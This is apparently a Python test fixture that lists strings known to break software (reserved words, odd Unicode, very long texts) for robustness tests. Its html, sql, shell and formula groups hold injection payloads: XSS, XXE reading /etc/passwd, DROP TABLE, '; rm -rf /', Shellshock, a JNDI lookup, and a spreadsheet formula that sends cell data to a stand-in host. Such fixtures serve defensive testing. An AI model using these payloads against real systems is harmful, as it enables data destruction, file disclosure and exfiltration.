"""Texts that have broken other programs, each in every column of text: it is stored as it came.

Besides our own, they follow the groups of the well-known list of naughty strings.
"""

from __future__ import annotations

from tests.hostile.texts import HOSTILE
from tests.hostile.variant import Keys, Variant, as_text

KEYS = Keys(12_000_000)
LONG = 1 << 20

TEXTS: dict[str, tuple[str, ...]] = {
    "reserved": (
        "undefined", "undef", "NULL", "null", "(null)", "nil", "NIL", "true", "false", "TRUE", "FALSE", "None",
        "hasOwnProperty", "then", "constructor", "__proto__", "__dict__", "\\", "\\\\", "NaN", "nan", "N/A", "-", "--",
    ),
    "number": (
        "0", "1.00", "$1.00", "1/2", "1E2", "1E+02", "-1E+02", "1/0", "0/0", "0.0.0", "0,00", "0,,0", "--1", "-.", "9" * 96,
        "Infinity", "-Infinity", "INF", "1#INF", "-1#IND", "0x0", "0xffffffffffffffff", "0xabad1dea", "1,000.00", "1 000,00",
        "1'000'000.00", "01000", "08", "2.2250738585072011e-308", "012-345-678",
    ),
    "signs": (
        ",./;'[]\\-=", '<>?:"{}|_+', "!@#$%^&*()`~", "'", '"', "''", '""', "'\"'", "\"''''\"'\"", "\"'\"'\"''''\"", "`", "``",
        "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "¡™£¢∞§¶•ªº–≠", "⅛⅜⅝⅞", "⁰⁴⁵₀₁₂", "␣␢␡",
    ),
    "letters": (
        "ЁЂЃЄЅІЇЈЉЊЋЌЍЎЏ", "٠١٢٣٤٥٦٧٨٩", "田中さんにあげて下さい", "パーティーへ行かないか", "部落格", "사회과학원 어학연구소",
        "𠜎𠜱𠝹𠱓𠱸𠲖𠳏", "Ⱥ Ⱦ", "ŉ", "ǰ", "ΐ", "ΣΑΣ", "ııı İİİ", "ﬀ ﬁ ﬂ", "１２３", "Ṩ ẛ̣", "नमस्ते", "กำ", "ຽ༼ຈل͜ຈ༽ຽ",
    ),
    "emoji": (
        "😍", "👩🏽", "👨‍🦰 👨🏿‍🦰 👨‍🦱 👨🏿‍🦱 🦹🏿‍♂️", "🐵 🙈 🙉 🙊", "❤️ 💔 💌", "✋🏿 💪🏿 👐🏿", "🇺🇸🇷🇺🇸 🇦🇫🇦🇲🇸", "0️⃣ 1️⃣ 🔟", "（╯°□°）╯︵ ┻━┻", "🏴\U000e0067\U000e0062\U000e007f",
    ),
    "right to left": (
        "ثم نفس سقطت", "בְּרֵאשִׁית, בָּרָא אֱלֹהִים", "הָיְתָהtestالصفحات", "﷽", "ﷺ", "\u202a\u202atest\u202a", "\u202btest\u202b", "\u2066test\u2067",
        "\u202etxt.exe\u202c", "\u200f\u200e", "abc\u061cdef",
    ),
    "invisible": (
        "\u200b", "a\u200bb", "\u1680", "\u180e", "\u2028", "\u2029", "\u2060", "\u00ad", "\u0085", "\u001f", "\x01\x02\x03\x04\x05\x06\x07\x08",
        "\x0e\x0f\x10\x1b\x7f", "\x80\x84\x9f", "\ufffe", "\ufff9a\ufffab\ufffb", "\u034f", "\U000e0001", "a\ufeffb", "\u2003x\u2003", "\u202fx",
    ),
    "combining": (
        "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "e\u0301" * 100, "\u0301alone", "a" + "\u0300" * 2000, "ö o\u0308", "क्‍ष", "\u0338/", "Å Å Å",
    ),
    "fonts": ("Ｔｈｅ ｑｕｉｃｋ", "𝐓𝐡𝐞", "𝕿𝖍𝖊", "𝓣𝓱𝓮", "𝚃𝚑𝚎", "⒯⒣⒠", "˙ɐnbᴉlɐ", "00˙Ɩ$-"),
    "html": (
        "<script>alert(0)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<img src=x onerror=alert(2) />",
        "<svg><script>123<1>alert(3)</script>", '"><script>alert(4)</script>', "'><script>alert(5)</script>",
        "</script><script>alert(7)</script>", "< / script >< script >alert(8)< / script >", ' onfocus=JaVaSCript:alert(9) autofocus',
        "＜script＞alert(11)＜/script＞", "<sc<script>ript>alert(12)</sc</script>ript>", "--><script>alert(13)</script>",
        "<iframe src=javascript:alert(15)>", "<a href=\"java\0script:x\">".replace("\0", "\x01"), "<!--#exec cmd=\"/bin/ls /\"-->",
        "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
    ),
    "sql": (
        "1;DROP TABLE sales", "1'; DROP TABLE sales-- 1", "' OR 1=1 -- 1", "' OR '1'='1", "'; EXEC sp_MSForEachTable 'DROP TABLE ?'; --",
        "%", "_", "\\'; DROP TABLE customers; --", "$tag$; DELETE FROM sales; $tag$", "$1", "?", ":name", "/* */", "E'\\x27'", "U&'\\0027'",
        "); ATTACH '/etc/passwd' AS p; --", "{columns}", "{0!r}", "%(name)s",
    ),
    "shell": (
        "$HOME", "$(touch /tmp/hostile.fail)", "`touch /tmp/hostile.fail`", "| touch /tmp/hostile.fail", "; rm -rf /", "System(\"ls -al /\")",
        "eval(\"puts 'hello world'\")", "() { 0; }; touch /tmp/hostile.fail;", "%d%s%n%p", "{{ 7*7 }}", "${jndi:ldap://127.0.0.1/a}", "../../../../etc/passwd%00",
        "file:///etc/passwd", "CON", "NUL", "COM1", "\\\\server\\share",
    ),
    "formula": (
        "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://x.example\",\"y\")", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
        "\t=1+1", "\r=1+1", "'=1+1", "=1+1\";=1+1", "%0A=1+1", "＝1+1",
    ),
    "log": (
        "a\nERROR: the books do not balance", "a\r\n2025-01-01 00:00:00 INFO done", "a\rERROR", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b[31mred\x1b[0m",
        "a\u2028ERROR", "a\u0085ERROR", "a\x0bERROR", "\x08\x08\x08ERROR", "%0d%0aERROR", "a\\nERROR",
    ),
    "long": ("x" * LONG, "é" * LONG, "😀" * (LONG // 4), "a,\"\n" * (LONG // 8), "e\u0301" * (LONG // 4), "\"" * 50_000, "word " * 50_000 + "end"),
    "innocent": (
        "Scunthorpe General Hospital", "Linda Callahan", "Dr. Herman I. Libshitz", "Null", "O'Brien", "X Æ A-12", "Nguyễn Thị", "d'Ñeñe", "Jr.", "李", "Ng",
    ),
}  # fmt: skip


def variants() -> list[Variant]:
    told = dict.fromkeys(HOSTILE, "known")
    for group, texts in TEXTS.items():
        told |= dict.fromkeys(texts, group)
    return [as_text(KEYS, group, text) for text, group in told.items()]
